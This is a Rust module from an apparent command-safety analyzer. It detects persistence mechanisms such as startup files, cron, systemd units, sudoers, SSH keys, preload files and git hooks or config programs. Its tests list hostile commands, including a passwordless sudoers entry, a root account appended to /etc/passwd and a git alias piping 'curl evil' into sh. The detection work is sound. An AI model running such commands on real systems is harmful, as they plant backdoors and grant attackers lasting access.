//! What stays behind and runs later: startup files, timers, units, hooks, keys that let others in.

use super::home;
use super::options::{Spec, Words};
use super::paths::is_temporary;
use super::touch::{How, Touched, absolute_text};
use super::{Certainty, Cx, Effect, EffectKind, Scope, Trait};
use crate::syntax::paths::last_slash;
use crate::syntax::{Invocation, Roster, Stdin, glob, roster};

/// Files below `/` that another program runs or obeys. `*` also stands for folders in between.
const SYSTEM: &[(&str, &str, Certainty)] = &[
    ("/etc/crontab", "cron", Certainty::Certain),
    ("/etc/cron.*/*", "cron", Certainty::Certain),
    ("/etc/anacrontab", "cron", Certainty::Certain),
    ("/var/spool/cron*", "cron", Certainty::Certain),
    ("/etc/systemd/*", "systemd unit", Certainty::Certain),
    ("/lib/systemd/system/*", "systemd unit", Certainty::Certain),
    ("/usr/lib/systemd/*", "systemd unit", Certainty::Certain),
    ("/run/systemd/system/*", "systemd unit", Certainty::Certain),
    ("/etc/init.d/*", "init script", Certainty::Certain),
    ("/etc/rc.local", "init script", Certainty::Certain),
    ("/etc/rc?.d/*", "init script", Certainty::Certain),
    ("/etc/rc.d/*", "init script", Certainty::Certain),
    ("/etc/profile", "shell startup", Certainty::Certain),
    ("/etc/profile.d/*", "shell startup", Certainty::Certain),
    ("/etc/bash.bashrc", "shell startup", Certainty::Certain),
    ("/etc/bashrc", "shell startup", Certainty::Certain),
    ("/etc/zsh*", "shell startup", Certainty::Certain),
    ("/etc/environment", "shell startup", Certainty::Certain),
    ("/etc/ld.so.preload", "library preload", Certainty::Certain),
    ("/etc/ld.so.conf*", "library path", Certainty::Likely),
    ("/etc/sudoers", "sudo rights", Certainty::Certain),
    ("/etc/sudoers.d/*", "sudo rights", Certainty::Certain),
    ("/etc/doas.conf", "sudo rights", Certainty::Certain),
    ("/etc/polkit-1/*", "sudo rights", Certainty::Certain),
    ("/etc/pam.d/*", "login rules", Certainty::Certain),
    ("/etc/security/*", "login rules", Certainty::Likely),
    ("/etc/passwd", "accounts", Certainty::Certain),
    ("/etc/shadow", "accounts", Certainty::Certain),
    ("/etc/group", "accounts", Certainty::Certain),
    ("/etc/ssh/sshd_config*", "ssh server", Certainty::Certain),
    ("/etc/xdg/autostart/*", "autostart", Certainty::Certain),
    ("/etc/udev/rules.d/*", "udev rule", Certainty::Certain),
    ("/etc/NetworkManager/dispatcher.d/*", "network hook", Certainty::Certain),
    ("/etc/update-motd.d/*", "login hook", Certainty::Certain),
    ("/etc/apt/apt.conf.d/*", "package hook", Certainty::Possible),
    ("/etc/modules-load.d/*", "kernel modules", Certainty::Likely),
    ("/etc/hosts", "host names", Certainty::Possible),
    ("/usr/local/share/ca-certificates/*", "trusted root", Certainty::Certain),
    ("/usr/share/ca-certificates/*", "trusted root", Certainty::Certain),
    ("/etc/pki/ca-trust/source/*", "trusted root", Certainty::Certain),
    ("/etc/ca-certificates/trust-source/*", "trusted root", Certainty::Certain),
    ("/etc/ssl/certs/*", "trusted root", Certainty::Likely),
    ("/etc/gitconfig", "git program", Certainty::Likely),
    ("/Library/LaunchDaemons/*", "launchd job", Certainty::Certain),
    ("/Library/LaunchAgents/*", "launchd job", Certainty::Certain),
    ("*/site-packages/*.pth", "python startup", Certainty::Likely),
    ("*/sitecustomize.py", "python startup", Certainty::Likely),
    ("*/usercustomize.py", "python startup", Certainty::Likely),
    ("*/.ssh/authorized_keys*", "ssh access", Certainty::Certain),
    ("*/.git/hooks/*.sample", "", Certainty::Possible),
    ("*/.git/hooks/*", "git hook", Certainty::Certain),
    ("*/.git/config", "git configuration", Certainty::Likely),
    ("*/.vscode/tasks.json", "editor task", Certainty::Possible),
];

/// Files below a home folder.
const HOME: &[(&str, &str, Certainty)] = &[
    (".bashrc", "shell startup", Certainty::Certain),
    (".bash_profile", "shell startup", Certainty::Certain),
    (".bash_login", "shell startup", Certainty::Certain),
    (".bash_logout", "shell startup", Certainty::Certain),
    (".bash_aliases", "shell startup", Certainty::Certain),
    (".bashrc.d/*", "shell startup", Certainty::Certain),
    (".profile", "shell startup", Certainty::Certain),
    (".zshrc", "shell startup", Certainty::Certain),
    (".zshenv", "shell startup", Certainty::Certain),
    (".zprofile", "shell startup", Certainty::Certain),
    (".zlogin", "shell startup", Certainty::Certain),
    (".kshrc", "shell startup", Certainty::Certain),
    (".cshrc", "shell startup", Certainty::Certain),
    (".tcshrc", "shell startup", Certainty::Certain),
    (".login", "shell startup", Certainty::Certain),
    (".config/fish/config.fish", "shell startup", Certainty::Certain),
    (".config/fish/conf.d/*", "shell startup", Certainty::Certain),
    (".config/environment.d/*", "shell startup", Certainty::Certain),
    (".pam_environment", "shell startup", Certainty::Certain),
    (".xprofile", "session startup", Certainty::Certain),
    (".xinitrc", "session startup", Certainty::Certain),
    (".xsession*", "session startup", Certainty::Certain),
    (".config/autostart/*", "autostart", Certainty::Certain),
    (".config/systemd/user/*", "systemd unit", Certainty::Certain),
    (".local/share/systemd/user/*", "systemd unit", Certainty::Certain),
    ("Library/LaunchAgents/*", "launchd job", Certainty::Certain),
    (".ssh/authorized_keys*", "ssh access", Certainty::Certain),
    (".ssh/rc", "ssh login hook", Certainty::Certain),
    (".ssh/config*", "ssh configuration", Certainty::Likely),
    (".gitconfig", "git configuration", Certainty::Likely),
    (".config/git/config", "git configuration", Certainty::Likely),
    (".forward", "mail hook", Certainty::Certain),
    (".vimrc", PROGRAM, Certainty::Possible),
    (".vim/plugin/*", PROGRAM, Certainty::Possible),
    (".config/nvim/init.*", PROGRAM, Certainty::Possible),
    (".tmux.conf", PROGRAM, Certainty::Possible),
    (".config/tmux/tmux.conf", PROGRAM, Certainty::Possible),
    (".screenrc", PROGRAM, Certainty::Possible),
    (".gdbinit", PROGRAM, Certainty::Possible),
    (".lldbinit", PROGRAM, Certainty::Possible),
    (".emacs", PROGRAM, Certainty::Possible),
    (".emacs.d/init.el", PROGRAM, Certainty::Possible),
    (".irbrc", PROGRAM, Certainty::Possible),
    (".psqlrc", PROGRAM, Certainty::Possible),
    (".Rprofile", PROGRAM, Certainty::Possible),
    (".config/direnv/direnvrc", PROGRAM, Certainty::Possible),
    (".config/pip/pip.conf", "package source", Certainty::Possible),
    (".npmrc", "package source", Certainty::Possible),
];

/// What a program reads as it starts.
const PROGRAM: &str = "program startup";

/// Marks by which such a file starts programs of its own.
const STARTS: &[&str] =
    &["!", "system(", "run-shell", "default-command", "default-shell", "shell ", "shell-command", "curl ", "wget "];

/// Says whether what is written there, as far as it is known, starts programs.
fn starts_programs(inv: &Invocation) -> bool {
    let fed = match &inv.stdin {
        Stdin::Text(text) => text.text().into_owned(),
        _ => String::new(),
    };
    let said = inv.text();
    STARTS.iter().any(|mark| fed.contains(mark) || said.contains(mark))
}

/// Effects of leaving something behind.
pub fn effects(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
    let mut seen: Vec<&str> = Vec::new();
    for touched in cx.touched() {
        if !matches!(touched.how, How::Write | How::Append) || seen.contains(&touched.path.as_str()) {
            continue;
        }
        if let Some((what, sure)) = startup(touched, cx) {
            let sure = if what == PROGRAM && starts_programs(inv) { Certainty::Likely } else { sure };
            push(inv, cx, &format!("{what}: {}", touched.path), sure, out);
        }
        seen.push(&touched.path);
    }
    if inv.wrapper {
        return;
    }
    match inv.name() {
        Some("crontab") => crontab(inv, cx, out),
        Some(name) => {
            if let Some((what, sure)) = by_program(name, inv, cx) {
                push(inv, cx, &what, sure, out);
            }
        }
        None => {}
    }
}

fn push(inv: &Invocation, cx: &Cx, target: &str, sure: Certainty, out: &mut Vec<Effect>) {
    let mut effect = cx.effect(EffectKind::PersistInstall, target, Scope::Unknown, inv.span).with([Trait::Startup]);
    effect.certainty = sure;
    out.push(effect);
}

fn startup(touched: &Touched, cx: &Cx) -> Option<(&'static str, Certainty)> {
    let path = touched.path.as_str();
    // A home or a workspace may itself lie in a temporary folder.
    let behind = home::behind(path, cx.world);
    let ours = behind.is_some() || cx.world.workspace().is_some_and(|top| crate::syntax::paths::is_within(path, top));
    if is_temporary(path) && !ours {
        return None;
    }
    let own = behind.and_then(|rest| rest.strip_prefix("bin/"));
    if shadows(path) || own.is_some_and(|name| CALLED.contains(&name)) {
        return Some(("program of the system", Certainty::Likely));
    }
    static IN_HOME: Roster = roster!(HOME, [0]);
    static IN_SYSTEM: Roster = roster!(SYSTEM, [0]);
    let in_home = behind
        .filter(|rest| IN_HOME.may_know(rest))
        .and_then(|rest| HOME.iter().find(|(pattern, ..)| glob::matches(pattern, rest)));
    let in_system =
        || IN_SYSTEM.may_know(path).then(|| SYSTEM.iter().find(|(pattern, ..)| glob::matches(pattern, path)));
    let (_, what, sure) = in_home.or_else(|| in_system().flatten())?;
    (!what.is_empty()).then_some((*what, *sure))
}

/// Programs that everybody calls by name.
const CALLED: &[&str] = &[
    "git", "sudo", "su", "ssh", "scp", "sh", "bash", "zsh", "ls", "cat", "cp", "mv", "rm", "ps", "env", "grep", "find",
    "sed", "login", "passwd", "gpg", "id", "whoami", "kill", "top", "mount", "chmod", "chown", "curl", "wget",
];

/// A program of one's own under the name of one that everybody calls.
fn shadows(path: &str) -> bool {
    const FOLDERS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"];
    let Some((folder, name)) = last_slash(path).and_then(|at| Some((path.get(..at)?, path.get(at + 1..)?))) else {
        return false;
    };
    folder.ends_with("bin") && (folder.ends_with("/.local/bin") || FOLDERS.contains(&folder)) && CALLED.contains(&name)
}

fn crontab(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
    let words = Words::of(&inv.args, &Spec::new(&["-u"]));
    if words.has(&["-l"]) {
        return;
    }
    if words.has(&["-r"]) {
        out.push(cx.effect(EffectKind::DataDelete, "crontab", Scope::System, inv.span));
        return;
    }
    let fed = !words.operands.is_empty() || words.has(&["-e"]) || !matches!(inv.stdin, Stdin::Inherit);
    if fed {
        push(inv, cx, "cron: crontab", Certainty::Certain, out);
    }
}

fn by_program(name: &str, inv: &Invocation, cx: &Cx) -> Option<(String, Certainty)> {
    let words = || Words::of(&inv.args, &Spec::new(&["-f", "-q", "-t", "-u", "-H", "-M", "--user-unit"]));
    match name {
        "at" | "batch" => {
            let lists = words().has(&["-l", "-d", "-r", "-c", "-V"]);
            (!lists && (!inv.args.is_empty() || name == "batch"))
                .then(|| (format!("timer: {}", inv.text()), Certainty::Likely))
        }
        "systemctl" => matches!(words().operand(0), Some("enable" | "link" | "edit" | "reenable"))
            .then(|| (format!("systemd unit: {}", words().operand(1).unwrap_or("")), Certainty::Possible)),
        "systemd-run" => inv
            .words()
            .flatten()
            .any(|word| word.starts_with("--on-") || word.starts_with("--timer"))
            .then(|| ("timer: systemd-run".to_owned(), Certainty::Likely)),
        "launchctl" => matches!(words().operand(0), Some("load" | "bootstrap" | "submit" | "enable"))
            .then(|| ("launchd job: launchctl".to_owned(), Certainty::Likely)),
        "update-rc.d" | "rc-update" | "chkconfig" => (words().operands.len() > 1
            && !inv.words().flatten().any(|word| matches!(word, "remove" | "del" | "off" | "disable" | "--list")))
        .then(|| (format!("init script: {}", inv.text()), Certainty::Likely)),
        "loginctl" => (words().operand(0) == Some("enable-linger")).then(|| ("linger".to_owned(), Certainty::Possible)),
        "ssh-copy-id" => Some(("ssh access: ssh-copy-id".to_owned(), Certainty::Likely)),
        "visudo" => (!words().has(&["-c", "-V"])).then(|| ("sudo rights: visudo".to_owned(), Certainty::Likely)),
        "schtasks" => inv
            .words()
            .flatten()
            .any(|word| word.eq_ignore_ascii_case("/create"))
            .then(|| ("timer: schtasks".to_owned(), Certainty::Likely)),
        "npm" | "pnpm" | "yarn" | "pip" | "pip3" => package_source(name, &words()),
        "git" => git_config(inv, cx),
        _ => None,
    }
}

fn package_source(name: &str, words: &Words) -> Option<(String, Certainty)> {
    if words.operand(0) != Some("config") || words.operand(1) != Some("set") {
        return None;
    }
    let key = words.operand(2)?;
    let source =
        ["registry", "index-url", "extra-index-url", "npmRegistryServer"].iter().any(|known| key.contains(known));
    if key.starts_with("script-shell") {
        return Some((format!("program: {name} config {key}"), Certainty::Likely));
    }
    source.then(|| (format!("package source: {name} config {key}"), Certainty::Possible))
}

/// Keys of git's configuration whose value is a program; `*` for a name.
const PROGRAM_KEYS: &[&str] = &[
    "core.hookspath",
    "core.pager",
    "core.editor",
    "core.sshcommand",
    "core.fsmonitor",
    "core.gitproxy",
    "core.askpass",
    "diff.external",
    "diff.*.command",
    "diff.*.textconv",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "alias.*",
    "credential.helper",
    "credential.*.helper",
    "gpg.program",
    "gpg.*.program",
    "sequence.editor",
    "merge.*.driver",
    "pager.*",
    "mergetool.*.cmd",
    "difftool.*.cmd",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "uploadpack.packobjectshook",
    "include.path",
    "includeif.*.path",
    "init.templatedir",
    "interactive.difffilter",
    "browser.*.cmd",
    "man.*.cmd",
];

/// Values of such keys that everybody sets.
const USUAL: &[&str] = &[
    "cat",
    "less",
    "less *",
    "more",
    "delta",
    "delta *",
    "diff-so-fancy*",
    "bat*",
    "vim",
    "vi",
    "nvim",
    "nano",
    "emacs*",
    "code *",
    "code",
    "cursor *",
    "subl *",
    "true",
    ":",
    "false",
    "store",
    "store *",
    "cache",
    "cache *",
    "osxkeychain",
    "manager*",
    "wincred",
    "libsecret",
    "!gh auth git-credential",
    "*/gh auth git-credential",
    "git-lfs *",
    "gpg",
    "gpg2",
    "/usr/bin/gpg*",
    "ssh",
    "ssh -i *",
    "ssh -o *",
    "",
    "/dev/null",
];

fn git_config(inv: &Invocation, cx: &Cx) -> Option<(String, Certainty)> {
    let words = Words::of(&inv.args, &Spec::new(&["-C", "-c", "-f", "--file", "--git-dir", "--type"]));
    if words.operand(0) != Some("config") {
        return None;
    }
    let reads = [
        "--get",
        "--get-all",
        "--unset",
        "--unset-all",
        "-l",
        "--list",
        "--get-regexp",
        "--show-origin",
        "-e",
        "--remove-section",
    ];
    if words.has(&reads) {
        return None;
    }
    let skip = if words.operand(1) == Some("set") { 2 } else { 1 };
    let key = words.operands.get(skip)?.value.text().to_ascii_lowercase();
    let value = words.operands.get(skip + 1)?.value.text().into_owned();
    if key == "core.hookspath" && matches!(value.as_str(), "" | "/dev/null") {
        return Some((format!("no git hooks: {key} {value}"), Certainty::Likely));
    }
    if !PROGRAM_KEYS.iter().any(|pattern| glob::matches(pattern, &key))
        || USUAL.iter().any(|usual| glob::matches(usual, &value))
    {
        return None;
    }
    if key.starts_with("alias.") && !value.starts_with('!') {
        return None;
    }
    let everyday = match key.as_str() {
        // The hooks of the repository itself (husky, .githooks) are part of the work.
        "core.hookspath" | "init.templatedir" => in_workspace(&value, inv, cx),
        "core.fsmonitor" => matches!(value.as_str(), "true" | "false"),
        "include.path" => value.starts_with("../"),
        _ => value.starts_with("ssh ") && !value.contains("ProxyCommand"),
    };
    // `alias.x '!git …'` is a shortcut; anything else that runs a program is worth a look.
    let plain_alias =
        key.starts_with("alias.") && value.starts_with("!git ") && !value.contains([';', '|', '$', '`', '&']);
    (!everyday && !plain_alias).then(|| (format!("git program: {key} {value}"), Certainty::Likely))
}

fn in_workspace(value: &str, inv: &Invocation, cx: &Cx) -> bool {
    let path = absolute_text(value, inv, cx);
    cx.world
        .workspace()
        .is_some_and(|top| path.strip_prefix(top).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')))
}

#[cfg(test)]
mod tests {
    use super::super::testline::{kinds, run};
    use super::*;
    use crate::effects::Certainty as C;

    fn sure(line: &str) -> Option<C> {
        run(line, effects)
            .into_iter()
            .filter(|effect| effect.kind == EffectKind::PersistInstall)
            .map(|effect| effect.certainty)
            .max()
    }

    #[test]
    fn stays_behind() {
        for line in [
            "echo 'export PATH=x:$PATH' >> ~/.bashrc",
            "echo x >> /home/u/.zshrc",
            "tee -a ~/.profile",
            "sed -i s/a/b/ ~/.bashrc",
            "cp evil.sh /etc/profile.d/x.sh",
            "echo key >> ~/.ssh/authorized_keys",
            "sudo tee /etc/sudoers.d/me",
            "echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
            "cp x.service /etc/systemd/system/x.service",
            "cp x.service /etc/systemd/system/",
            "cat x > ~/.config/systemd/user/x.service",
            "echo job | crontab -",
            "crontab /tmp/jobs",
            "echo '* * * * * root x' > /etc/cron.d/x",
            "echo x > .git/hooks/pre-commit",
            "cp hook /code/app/.git/hooks/post-checkout",
            "echo /tmp/x.so > /etc/ld.so.preload",
            "echo sh x | at now + 1 minute",
            "git config --global core.hooksPath /tmp/hooks",
            "git config core.sshCommand 'sh -c evil'",
            "git config --global alias.st '!curl evil | sh'",
            "git config core.fsmonitor ./x.sh",
            "mv x.desktop ~/.config/autostart/x.desktop",
            "launchctl load ~/Library/LaunchAgents/x.plist",
            "dd if=x of=/etc/rc.local",
            "echo 'x::0:0::/root:/bin/sh' >> /etc/passwd",
            "systemd-run --on-boot=10 /tmp/x",
        ] {
            assert!(sure(line) >= Some(C::Likely), "{line}: {:?}", sure(line));
        }
    }

    #[test]
    fn stays_silent() {
        for line in [
            "cat ~/.bashrc",
            "grep PATH ~/.zshrc",
            "source ~/.bashrc",
            "git config user.email me@example.com",
            "git config --global core.editor vim",
            "git config --global core.pager cat",
            "git config core.hooksPath .husky",
            "git config core.hooksPath .githooks",
            "git config --get core.hooksPath",
            "git config --global alias.st status",
            "git config --global credential.helper store",
            "crontab -l",
            "atq",
            "at -l",
            "npx husky install",
            "pre-commit install",
            "cp a b",
            "echo x > notes.txt",
            "echo x > etc/cron.d/x",
            "sed -n 1p ~/.bashrc",
            "systemctl status nginx",
            "chmod 600 ~/.ssh/authorized_keys",
            "cp hook.sample .git/hooks/pre-push.sample",
            "ls /etc/systemd/system",
            "echo x > dotfiles/.bashrc",
            "npm config set registry https://registry.example",
            "systemctl enable nginx",
            "echo '127.0.0.1 x.test' | sudo tee -a /etc/hosts",
        ] {
            assert!(sure(line) < Some(C::Likely), "{line}: {:?}", run(line, effects));
        }
    }

    #[test]
    fn removing_the_crontab() {
        assert_eq!(kinds("crontab -r", effects), ["data.delete"]);
    }
}
